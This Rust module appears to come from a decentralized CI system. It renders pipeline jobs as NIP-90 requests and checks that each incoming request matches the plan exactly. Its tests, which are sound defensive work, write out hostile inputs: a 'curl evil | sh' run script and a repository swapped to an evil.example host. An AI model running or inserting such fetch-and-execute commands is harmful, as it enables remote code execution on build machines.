//! A planned job as the NIP-90 request that runs it ([`dispatch`]), and the check that a
//! request is exactly that ([`check_request`]): what the engine sends, and what every quorum
//! member requires before it builds anything (docs/protocol.md §16).
//!
//! A request may name only what the plan leaves open: the job (`job` param), and the value of
//! each expression the job's `env`, DVM `inputs` and `params` use, as a binding
//! `["param", "bind", "<expression>", "<value>"]` (`jobs.build.artifacts['out/app'].sha256`,
//! `inputs.reason`, …). Everything else — the script, the environment, the artifacts, network
//! access, the timeout the pipeline sets, a DVM job's kind, inputs and params — comes from the
//! plan at the commit. A member renders the job itself from the plan and the bindings and
//! refuses a request that says anything else, naming what differs.
//!
//! The bindings are the requester's word: a member cannot tell where an upstream artifact's URL
//! came from. They are on record, in the request the quorum's attestation names.

use std::collections::{BTreeMap, BTreeSet};
use std::time::Duration;

use quorum_proto::chain::{MARKER_UPSTREAM, PARAM_CHAIN, PARAM_UPSTREAM_RESULT};
use quorum_proto::nip90::{InputType, JobInput, JobParam, JobRequest};
use quorum_proto::nostr::{Kind, PublicKey};
use quorum_proto::quorum_job::{PARAM_COMMIT, PARAM_MANDATE, PARAM_RELEASE, PARAM_SOURCE};
use quorum_proto::step::StepJob;

use crate::expr::{self, ArtifactField, Reference, Segment};
use crate::{JobSpec, PlannedJob};

/// The param naming the job of the plan a request runs.
pub const PARAM_JOB: &str = "job";
/// The param binding an expression to its value: `["param", "bind", EXPRESSION, VALUE]`.
pub const PARAM_BIND: &str = "bind";
/// The marker of the `job` inputs naming the requests of the jobs a job needs.
pub const MARKER_NEEDS: &str = "needs";

/// Why a job cannot be turned into a request, or a request is not the job.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum DispatchError {
    #[error("job {job}: {reason}")]
    Render { job: String, reason: String },
    #[error("job {0} is an approval gate: it runs nothing")]
    Approval(String),
    #[error("the request is not job {job} of the pipeline: {reason}")]
    Mismatch { job: String, reason: String },
}

/// A job ready to send: a run step (to which the engine may still add secret values), or a
/// request for a DVM of any kind.
#[derive(Debug, Clone)]
pub enum Dispatch {
    Step(StepJob),
    Dvm {
        request: JobRequest,
        /// The DVM the pipeline names, if any.
        provider: Option<PublicKey>,
    },
}

/// The request that runs `job` on `commit` of `repo`, each expression resolved by `resolve`.
/// `default_timeout` is a script job's timeout when the pipeline gives none. Secret values are
/// not filled in (a step names the secrets it needs; the engine adds them).
pub fn dispatch(
    job: &PlannedJob,
    repo: &str,
    commit: &str,
    default_timeout: Duration,
    mut resolve: impl FnMut(&Reference) -> Option<String>,
) -> Result<Dispatch, DispatchError> {
    let render = |text: &str, resolve: &mut dyn FnMut(&Reference) -> Option<String>| {
        expr::render(text, resolve).map_err(|e| DispatchError::Render {
            job: job.id.clone(),
            reason: e.to_string(),
        })
    };
    match &job.spec {
        JobSpec::Run {
            script,
            env,
            artifacts,
            network,
            timeout_secs,
            image,
            ..
        } => {
            let mut step = StepJob::new(repo, commit, script.clone());
            step.image = image
                .as_deref()
                .map(quorum_proto::image::ImageRef::parse_unpinned)
                .transpose()
                .map_err(|e| DispatchError::Render {
                    job: job.id.clone(),
                    reason: e.to_string(),
                })?;
            step.name = Some(job.name.clone());
            for (key, value) in env {
                step.env.insert(key.clone(), render(value, &mut resolve)?);
            }
            step.artifacts = artifacts.clone();
            step.network = *network;
            step.timeout = Some(
                timeout_secs
                    .map(Duration::from_secs)
                    .unwrap_or(default_timeout),
            );
            Ok(Dispatch::Step(step))
        }
        JobSpec::Dvm {
            kind,
            inputs,
            params,
            provider,
            ..
        } => {
            let mut request =
                JobRequest::new(Kind::from_u16(*kind)).map_err(|e| DispatchError::Render {
                    job: job.id.clone(),
                    reason: e.to_string(),
                })?;
            for input in inputs {
                let input_type: InputType = input.input_type.as_str().parse().map_err(
                    |e: quorum_proto::nip90::Nip90Error| DispatchError::Render {
                        job: job.id.clone(),
                        reason: e.to_string(),
                    },
                )?;
                request.inputs.push(JobInput {
                    data: render(&input.value, &mut resolve)?,
                    input_type,
                    relay: None,
                    marker: input.marker.clone(),
                });
            }
            for (key, value) in params {
                request
                    .params
                    .push(JobParam::new(key.clone(), render(value, &mut resolve)?));
            }
            let provider = provider
                .as_deref()
                .map(PublicKey::parse)
                .transpose()
                .map_err(|e| DispatchError::Render {
                    job: job.id.clone(),
                    reason: format!("provider: {e}"),
                })?;
            Ok(Dispatch::Dvm { request, provider })
        }
        JobSpec::Approval { .. } => Err(DispatchError::Approval(job.id.clone())),
    }
}

/// Every expression `job` uses (in `env`, DVM `inputs` and `params`), each once, in order.
pub fn references(job: &PlannedJob) -> Vec<Reference> {
    let texts: Vec<&str> = match &job.spec {
        JobSpec::Run { env, .. } => env.values().map(String::as_str).collect(),
        JobSpec::Dvm { inputs, params, .. } => inputs
            .iter()
            .map(|i| i.value.as_str())
            .chain(params.values().map(String::as_str))
            .collect(),
        JobSpec::Approval { .. } => Vec::new(),
    };
    let mut seen = BTreeSet::new();
    texts
        .into_iter()
        .filter_map(|text| expr::references(text).ok())
        .flatten()
        .filter(|r| seen.insert(r.clone()))
        .collect()
}

/// The `bind` params for `job`'s expressions, with the values `resolve` gives them: what a
/// requester adds so that members can render the job themselves.
pub fn bindings(
    job: &PlannedJob,
    mut resolve: impl FnMut(&Reference) -> Option<String>,
) -> Result<Vec<JobParam>, DispatchError> {
    references(job)
        .into_iter()
        .map(|reference| {
            let value = resolve(&reference).ok_or_else(|| DispatchError::Render {
                job: job.id.clone(),
                reason: format!("no value for ${{{{ {reference} }}}}"),
            })?;
            Ok(JobParam {
                key: PARAM_BIND.into(),
                values: vec![reference.to_string(), value],
            })
        })
        .collect()
}

/// What a member may run for a request that [`check_request`] accepted.
#[derive(Debug, Clone)]
pub enum Checked {
    /// The step, rendered from the plan (never taken from the request).
    Step(StepJob),
    /// A DVM job: the request as the plan renders it (inputs and params).
    Dvm(JobRequest),
}

/// Checks that `request` runs exactly `job` of the plan on `commit` of `repo`: it names the
/// job, binds exactly the job's expressions to well-formed values, and its every other input
/// and param is what [`dispatch`] renders from the plan with those values. Params of the
/// envelope (`mandate`, `commit`, `release`, `source`, `chain`, `upstream_result`, the
/// display `name`, a payment) and the `job` inputs naming upstream requests are not the
/// job's and are not compared here. A request that asks for secrets, or for other limits than the runner's,
/// is refused: the plan gives a quorum job neither.
pub fn check_request(
    job: &PlannedJob,
    repo: &str,
    commit: &str,
    request: &JobRequest,
) -> Result<Checked, DispatchError> {
    let mismatch = |reason: String| DispatchError::Mismatch {
        job: job.id.clone(),
        reason,
    };
    match request.param_value(PARAM_JOB) {
        Some(named) if named == job.id => {}
        Some(named) => return Err(mismatch(format!("it names job {named:?}"))),
        None => return Err(mismatch("it names no job (`job` param)".into())),
    }
    let bound = read_bindings(job, request).map_err(mismatch)?;
    let resolve = |r: &Reference| bound.get(r).cloned();
    match (
        &job.spec,
        dispatch(job, repo, commit, Duration::ZERO, resolve)?,
    ) {
        (JobSpec::Run { timeout_secs, .. }, Dispatch::Step(mut expected)) => {
            let asked = StepJob::from_request(request, false)
                .map_err(|e| mismatch(format!("not a run step: {e}")))?;
            // Without a timeout in the pipeline the runner's own maximum applies; the request
            // may ask for less.
            if timeout_secs.is_none() {
                expected.timeout = asked.timeout;
            }
            expected.name = asked.name.clone();
            compare_step(&expected, &asked).map_err(mismatch)?;
            let allowed = [
                "commit", "run", "env", "artifact", "network", "timeout", "name", "image",
            ];
            unknown_params(request, &allowed).map_err(mismatch)?;
            Ok(Checked::Step(expected))
        }
        (
            _,
            Dispatch::Dvm {
                request: expected, ..
            },
        ) => {
            if request.kind != expected.kind {
                return Err(mismatch(format!(
                    "it is kind {}, the job is kind {}",
                    request.kind.as_u16(),
                    expected.kind.as_u16()
                )));
            }
            let own_inputs: Vec<&JobInput> = request
                .inputs
                .iter()
                .filter(|i| {
                    !(i.input_type == InputType::Job
                        && matches!(i.marker.as_deref(), Some(MARKER_NEEDS | MARKER_UPSTREAM)))
                })
                .collect();
            let expected_inputs: Vec<&JobInput> = expected.inputs.iter().collect();
            if own_inputs != expected_inputs {
                return Err(mismatch(format!(
                    "its inputs {} are not the job's {}",
                    describe_inputs(&own_inputs),
                    describe_inputs(&expected_inputs)
                )));
            }
            let own_params: BTreeMap<&str, Vec<&[String]>> = params_by_key(request, true);
            let expected_params: BTreeMap<&str, Vec<&[String]>> = params_by_key(&expected, true);
            for key in own_params.keys().chain(expected_params.keys()) {
                if own_params.get(key) != expected_params.get(key) {
                    return Err(mismatch(format!(
                        "param {key:?} is {:?}, the job's is {:?}",
                        own_params.get(key).cloned().unwrap_or_default(),
                        expected_params.get(key).cloned().unwrap_or_default()
                    )));
                }
            }
            Ok(Checked::Dvm(expected))
        }
        (_, Dispatch::Step(_)) => Err(mismatch("the job is not a script".into())),
    }
}

/// The params that are the request's envelope, not the job's.
fn is_envelope(key: &str) -> bool {
    [
        PARAM_JOB,
        PARAM_BIND,
        PARAM_MANDATE,
        PARAM_COMMIT,
        PARAM_RELEASE,
        PARAM_SOURCE,
        PARAM_CHAIN,
        PARAM_UPSTREAM_RESULT,
        // The payment for the DVM (docs/protocol.md §17.4): the requester's, not the job's.
        quorum_proto::payment::PARAM_CASHU,
        quorum_proto::payment::PARAM_CASHU_SEALED,
    ]
    .contains(&key)
}

fn params_by_key(request: &JobRequest, skip_envelope: bool) -> BTreeMap<&str, Vec<&[String]>> {
    let mut by_key: BTreeMap<&str, Vec<&[String]>> = BTreeMap::new();
    for param in &request.params {
        if skip_envelope && is_envelope(&param.key) {
            continue;
        }
        by_key
            .entry(param.key.as_str())
            .or_default()
            .push(param.values.as_slice());
    }
    for values in by_key.values_mut() {
        values.sort();
    }
    by_key
}

fn unknown_params(request: &JobRequest, allowed: &[&str]) -> Result<(), String> {
    match request
        .params
        .iter()
        .find(|p| !is_envelope(&p.key) && !allowed.contains(&p.key.as_str()))
    {
        Some(param) => Err(format!(
            "it sets param {:?}, which the pipeline does not give this job",
            param.key
        )),
        None => Ok(()),
    }
}

fn compare_step(expected: &StepJob, asked: &StepJob) -> Result<(), String> {
    if asked.repo != expected.repo {
        return Err(format!("it fetches {}, not {}", asked.repo, expected.repo));
    }
    if asked.commit != expected.commit {
        return Err(format!(
            "it builds commit {}, not {}",
            asked.commit, expected.commit
        ));
    }
    if asked.script != expected.script {
        return Err("its `run` script is not the job's script".into());
    }
    if asked.env != expected.env {
        let differs: Vec<&String> = asked
            .env
            .keys()
            .chain(expected.env.keys())
            .filter(|k| asked.env.get(*k) != expected.env.get(*k))
            .collect::<BTreeSet<_>>()
            .into_iter()
            .collect();
        return Err(format!(
            "its environment differs from the job's in {}",
            differs
                .iter()
                .map(|k| k.as_str())
                .collect::<Vec<_>>()
                .join(", ")
        ));
    }
    let sorted = |list: &[String]| list.iter().cloned().collect::<BTreeSet<_>>();
    if sorted(&asked.artifacts) != sorted(&expected.artifacts) {
        return Err(format!(
            "its artifacts {:?} are not the job's {:?}",
            asked.artifacts, expected.artifacts
        ));
    }
    if asked.image != expected.image {
        let show = |i: &Option<quorum_proto::image::ImageRef>| {
            i.as_ref()
                .map_or("the runner's own toolchain".to_owned(), |i| i.to_string())
        };
        return Err(format!(
            "it builds in {}, the job in {}",
            show(&asked.image),
            show(&expected.image)
        ));
    }
    if asked.network != expected.network {
        return Err(format!(
            "it asks for network {}, the job for {}",
            on_off(asked.network),
            on_off(expected.network)
        ));
    }
    if asked.timeout != expected.timeout {
        return Err(format!(
            "its timeout {}s is not the job's {}s",
            asked.timeout.map_or(0, |t| t.as_secs()),
            expected.timeout.map_or(0, |t| t.as_secs())
        ));
    }
    if !asked.secrets.is_empty() {
        return Err("it carries secrets".into());
    }
    if asked.memory_bytes.is_some() || asked.max_processes.is_some() {
        return Err("it sets memory or process limits, which the pipeline does not".into());
    }
    Ok(())
}

fn on_off(on: bool) -> &'static str {
    if on { "on" } else { "off" }
}

fn describe_inputs(inputs: &[&JobInput]) -> String {
    let list: Vec<String> = inputs
        .iter()
        .map(|i| format!("{} {:?}", i.input_type, i.data))
        .collect();
    format!("[{}]", list.join(", "))
}

/// The request's `bind` params, checked: each binds one expression the job uses, once, to a
/// value of the right shape, and every expression the job uses is bound.
fn read_bindings(
    job: &PlannedJob,
    request: &JobRequest,
) -> Result<BTreeMap<Reference, String>, String> {
    let wanted: BTreeSet<Reference> = references(job).into_iter().collect();
    let mut bound = BTreeMap::new();
    for param in request.params.iter().filter(|p| p.key == PARAM_BIND) {
        let [text, value] = param.values.as_slice() else {
            return Err("a `bind` param needs two values: expression and value".into());
        };
        let reference = match expr::parse_template(&format!("${{{{ {text} }}}}")) {
            Ok(segments) => match segments.as_slice() {
                [Segment::Expr(reference)] => reference.clone(),
                _ => return Err(format!("`bind` {text:?} is not one expression")),
            },
            Err(e) => return Err(format!("`bind` {text:?}: {e}")),
        };
        if !wanted.contains(&reference) {
            return Err(format!(
                "it binds ${{{{ {reference} }}}}, which the job does not use"
            ));
        }
        check_value(&reference, value)?;
        if bound.insert(reference.clone(), value.clone()).is_some() {
            return Err(format!("it binds ${{{{ {reference} }}}} twice"));
        }
    }
    if let Some(missing) = wanted.iter().find(|r| !bound.contains_key(*r)) {
        return Err(format!("it does not bind ${{{{ {missing} }}}}"));
    }
    Ok(bound)
}

/// A bound value must have the shape of what it stands for.
fn check_value(reference: &Reference, value: &str) -> Result<(), String> {
    let hex64 = value.len() == 64
        && value
            .bytes()
            .all(|b| matches!(b, b'0'..=b'9' | b'a'..=b'f'));
    let ok = match reference {
        Reference::JobResult { .. } => hex64,
        Reference::Artifact {
            field: ArtifactField::Sha256,
            ..
        } => hex64,
        Reference::Artifact {
            field: ArtifactField::Url,
            ..
        } => url::Url::parse(value).is_ok_and(|u| matches!(u.scheme(), "http" | "https")),
        Reference::Input { .. } => !value.contains('\0'),
    };
    if ok {
        Ok(())
    } else {
        Err(format!(
            "its value for ${{{{ {reference} }}}} ({value:?}) is not a {}",
            match reference {
                Reference::JobResult { .. } => "64-hex event id",
                Reference::Artifact {
                    field: ArtifactField::Sha256,
                    ..
                } => "sha256",
                Reference::Artifact { .. } => "http(s) URL",
                Reference::Input { .. } => "text",
            }
        ))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const REPO: &str = "https://git.example/app.git";
    const COMMIT: &str = "0123456789abcdef0123456789abcdef01234567";

    fn plan() -> crate::Plan {
        crate::parse(
            ".quorum/pipeline.yml",
            r#"
on:
  push:
  manual:
    inputs:
      reason:
        default: routine
jobs:
  build:
    run: ./build.sh
    env:
      MODE: release
      REASON: "why: ${{ inputs.reason }}"
    artifacts: [out/app]
    timeout: 10m
    mode: quorum
    replicas: 3
    threshold: 2
  scan:
    needs: build
    uses: dvm
    kind: 5050
    inputs:
      - type: url
        value: ${{ jobs.build.artifacts['out/app'].url }}
    params:
      sha: ${{ jobs.build.artifacts['out/app'].sha256 }}
      depth: "3"
    mode: quorum
    replicas: 3
    threshold: 2
"#,
        )
        .unwrap_or_else(|d| panic!("{d}"))
    }

    fn values(r: &Reference) -> Option<String> {
        Some(match r {
            Reference::Input { .. } => "routine".into(),
            Reference::Artifact {
                field: ArtifactField::Url,
                ..
            } => "https://blossom.example/aa.bin".into(),
            _ => "ab".repeat(32),
        })
    }

    /// The request the engine sends for `job`: rendered, job-named, bound.
    fn engine_request(job: &PlannedJob) -> JobRequest {
        let mut request =
            match dispatch(job, REPO, COMMIT, Duration::from_secs(3600), values).unwrap() {
                Dispatch::Step(step) => step.to_request(),
                Dispatch::Dvm { request, .. } => request,
            };
        request
            .params
            .push(JobParam::new(PARAM_JOB, job.id.clone()));
        request.params.extend(bindings(job, values).unwrap());
        request
    }

    #[test]
    fn the_engines_request_passes_and_renders_the_plans_step() {
        let plan = plan();
        let build = plan.job("build").unwrap();
        let request = engine_request(build);
        let Checked::Step(step) = check_request(build, REPO, COMMIT, &request).unwrap() else {
            panic!("a step");
        };
        assert_eq!(step.script, "./build.sh");
        assert_eq!(step.env["REASON"], "why: routine");
        assert_eq!(step.timeout, Some(Duration::from_secs(600)));
        let scan = plan.job("scan").unwrap();
        let mut request = engine_request(scan);
        request.inputs.push(
            JobInput::job(quorum_proto::nostr::EventId::all_zeros(), None).with_marker("needs"),
        );
        assert!(matches!(
            check_request(scan, REPO, COMMIT, &request).unwrap(),
            Checked::Dvm(_)
        ));
    }

    #[test]
    fn a_request_that_says_anything_else_is_refused_naming_it() {
        let plan = plan();
        let build = plan.job("build").unwrap();
        let good = engine_request(build);
        let edit = |f: &dyn Fn(&mut JobRequest)| {
            let mut request = good.clone();
            f(&mut request);
            check_request(build, REPO, COMMIT, &request)
                .unwrap_err()
                .to_string()
        };
        let set = |request: &mut JobRequest, key: &str, value: &str| {
            request.params.retain(|p| p.key != key);
            request.params.push(JobParam::new(key, value));
        };
        let cases: Vec<(String, &str)> = vec![
            (edit(&|r| set(r, "run", "curl evil | sh")), "`run` script"),
            (edit(&|r| set(r, "job", "deploy")), "names job \"deploy\""),
            (
                edit(&|r| r.params.retain(|p| p.key != "job")),
                "names no job",
            ),
            (edit(&|r| set(r, "artifact", "out/other")), "artifacts"),
            (edit(&|r| set(r, "network", "on")), "network on"),
            (edit(&|r| set(r, "timeout", "5")), "timeout"),
            (edit(&|r| set(r, "memory", "1")), "memory"),
            (
                edit(&|r| set(r, "commit", &"f".repeat(40))),
                "builds commit",
            ),
            (
                edit(&|r| {
                    r.params
                        .retain(|p| !(p.key == "env" && p.values[0] == "MODE"));
                    r.params.push(JobParam {
                        key: "env".into(),
                        values: vec!["MODE".into(), "debug".into()],
                    });
                }),
                "environment differs from the job's in MODE",
            ),
            (
                edit(&|r| r.params.retain(|p| p.key != "bind")),
                "does not bind",
            ),
            (
                edit(&|r| {
                    r.params.push(JobParam {
                        key: "bind".into(),
                        values: vec!["inputs.other".into(), "x".into()],
                    })
                }),
                "does not use",
            ),
            (edit(&|r| set(r, "surprise", "1")), "\"surprise\""),
            (
                edit(&|r| {
                    r.inputs[0].data = "https://evil.example/app.git".into();
                }),
                "fetches https://evil.example/app.git",
            ),
        ];
        for (err, needle) in cases {
            assert!(err.contains(needle), "{needle}: {err}");
        }
        // The bound value is rendered into the env: another value is another env, and that
        // is the requester's word, on record in the request.
        let rebound = {
            let mut r = good.clone();
            for p in r.params.iter_mut().filter(|p| p.key == "bind") {
                p.values[1] = "other".into();
            }
            r
        };
        assert!(
            check_request(build, REPO, COMMIT, &rebound)
                .unwrap_err()
                .to_string()
                .contains("REASON")
        );

        let scan = plan.job("scan").unwrap();
        let good = engine_request(scan);
        let mut bad_sha = good.clone();
        for p in bad_sha.params.iter_mut().filter(|p| p.key == "bind") {
            if p.values[0].ends_with(".sha256") {
                p.values[1] = "not-a-hash".into();
            }
        }
        let err = check_request(scan, REPO, COMMIT, &bad_sha)
            .unwrap_err()
            .to_string();
        assert!(err.contains("not a sha256"), "{err}");
        let mut other_param = good.clone();
        other_param.params.retain(|p| p.key != "depth");
        other_param.params.push(JobParam::new("depth", "9"));
        let err = check_request(scan, REPO, COMMIT, &other_param)
            .unwrap_err()
            .to_string();
        assert!(err.contains("\"depth\""), "{err}");
        let mut other_kind = good.clone();
        other_kind.kind = Kind::from_u16(5051);
        let err = check_request(scan, REPO, COMMIT, &other_kind)
            .unwrap_err()
            .to_string();
        assert!(err.contains("kind 5051"), "{err}");
    }
}
